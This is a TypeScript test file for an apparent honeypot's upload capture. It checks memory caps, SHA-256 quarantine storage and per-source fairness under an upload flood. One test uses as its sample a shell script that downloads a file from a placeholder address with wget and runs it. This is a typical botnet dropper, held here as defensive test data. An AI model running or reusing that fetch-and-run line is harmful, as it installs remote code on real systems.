// Uploads into the shared quarantine: a per-upload cap, the shared memory budget given back after
// storing, and the file.upload outcome (stored, duplicate, truncated).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fetchSchema, quarantineSchema } from '../../src/config/schema.js';
import { createCapture, storeUpload, UploadBuffer } from '../../src/sensors/runtime/capture.js';
import { tempDir } from '../helpers/apiary-process.js';

test('uploads are capped, stored by SHA-256, and give their memory back', async () => {
  const capture = createCapture(tempDir(), fetchSchema.parse({}), quarantineSchema.parse({}));
  const events: { type: string; p: Record<string, unknown> }[] = [];
  const emitter = { emit: (type: string, p: Record<string, unknown>) => void events.push({ type, p }) };
  const before = UploadBuffer.memoryInUse;
  const a = new UploadBuffer(10, '127.0.0.1');
  a.write(Buffer.from('0123456'));
  a.write(Buffer.from('789abcdef'));
  assert.equal(a.offered, 16);
  assert.equal(UploadBuffer.memoryInUse - before, 10);
  const q = await storeUpload(capture, emitter as never, '/upload/x.bin', a);
  assert.ok(q, 'stored');
  assert.equal(UploadBuffer.memoryInUse, before, 'memory released after storing');
  assert.equal(q.sha256, createHash('sha256').update('0123456789').digest('hex'));
  assert.equal(readFileSync(capture.quarantine.pathOf(q.sha256), 'utf8'), '0123456789');
  const b = new UploadBuffer(100, '127.0.0.1');
  b.write(Buffer.from('0123456789'));
  await storeUpload(capture, emitter as never, '/again.bin', b);
  assert.deepEqual(events.map((e) => [e.type, e.p.filename, e.p.size, e.p.outcome]), [
    ['file.upload', '/upload/x.bin', 16, 'truncated'],
    ['file.upload', '/again.bin', 10, 'duplicate'],
  ]);
});

test('an upload in pieces of any size, one byte up, reads back as sent (small pieces share slabs)', async () => {
  const fc = (await import('fast-check')).default;
  fc.assert(
    fc.property(fc.array(fc.uint8Array({ minLength: 0, maxLength: 6000 }), { maxLength: 40 }), fc.integer({ min: 0, max: 100_000 }), (pieces, max) => {
      const before = UploadBuffer.memoryInUse;
      const u = new UploadBuffer(max, '127.0.0.1');
      for (const p of pieces) u.write(Buffer.from(p));
      const all = Buffer.concat(pieces.map((p) => Buffer.from(p)));
      assert.deepEqual(u.bytes(), all.subarray(0, max));
      assert.equal(UploadBuffer.memoryInUse - before, Math.min(all.length, max));
      u.release();
      assert.equal(UploadBuffer.memoryInUse, before);
    }),
    { numRuns: 300 },
  );
});

test('one source holding uploads open cannot take the upload memory from another: the other\'s upload is kept whole', async () => {
  const { MAX_UPLOAD_MEMORY_BYTES } = await import('../../src/sensors/runtime/capture.js');
  const { MAX_SOURCE_SHARE } = await import('../../src/sensors/runtime/framed-input.js');
  const capture = createCapture(tempDir(), fetchSchema.parse({}), quarantineSchema.parse({}));
  const events: { type: string; p: Record<string, unknown> }[] = [];
  const emitter = { emit: (type: string, p: Record<string, unknown>) => void events.push({ type, p }) };
  const before = UploadBuffer.memoryInUse;
  // As the reviewer's 8 FTP uploads of 16 MiB held open from one address: together the whole budget.
  const max = 16 * 1024 * 1024;
  const mib = Buffer.alloc(1024 * 1024, 0x5a);
  const flood = Array.from({ length: MAX_UPLOAD_MEMORY_BYTES / max }, () => new UploadBuffer(max, '127.0.0.1'));
  try {
    for (const u of flood) for (let i = 0; i < max / mib.length; i++) u.write(mib);
    const small = new UploadBuffer(max, '127.0.0.3');
    const sent = Buffer.from('#!/bin/sh\ncd /tmp; wget http://192.0.2.1/x; sh x\n\x00\x01');
    small.write(sent);
    const q = await storeUpload(capture, emitter as never, '/upload/small.sh', small);
    assert.ok(q);
    assert.equal(q.sha256, createHash('sha256').update(sent).digest('hex'), 'kept whole');
    assert.deepEqual(readFileSync(capture.quarantine.pathOf(q.sha256)), sent);
    assert.ok(UploadBuffer.memoryInUse - before <= MAX_UPLOAD_MEMORY_BYTES * MAX_SOURCE_SHARE, 'the source holds at most its share');
    // The flood's own uploads past its share are recorded as dropped, by the hash of what arrived.
    const last = flood[flood.length - 1]!;
    assert.equal(last.dropped, true);
    await storeUpload(capture, emitter as never, '/upload/big.bin', last);
    const whole = createHash('sha256');
    for (let i = 0; i < max / mib.length; i++) whole.update(mib);
    assert.deepEqual(events.map((e) => [e.p.filename, e.p.size, e.p.outcome]), [
      ['/upload/small.sh', sent.length, 'stored'],
      ['/upload/big.bin', max, 'dropped'],
    ]);
    assert.equal(events[1]!.p.sha256, whole.digest('hex'));
  } finally {
    for (const u of flood) u.release();
  }
  assert.equal(UploadBuffer.memoryInUse, before, 'all given back');
});
